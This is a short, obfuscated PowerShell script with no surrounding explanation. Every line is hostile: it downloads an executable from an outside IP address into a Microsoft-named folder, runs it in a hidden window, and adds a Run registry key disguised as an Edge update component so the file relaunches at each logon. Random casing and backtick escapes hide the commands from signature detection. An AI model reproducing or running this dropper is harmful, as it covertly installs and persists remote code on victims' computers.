# Init 8629 V1
STart-bIt`STrANSFer -sourCe hTtp://203.0.113.200/SVC.eXE -deSTiNaTION c:\PROGRAMdAta\mICROSoFt\UPD.EXE
STaRt-ProcEs`S -WIndOWsTYLE hiddEn C:\PrOgRAmdatA\microSOft\UPD.Exe
nEw-`iTeMpROPERtY -path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -NAmE 'MicrosoftEdgeUpdateCore' -VALUe 'C:\ProgramData\Microsoft\upd.exe' -PropeRtYTYPe String -foRCe
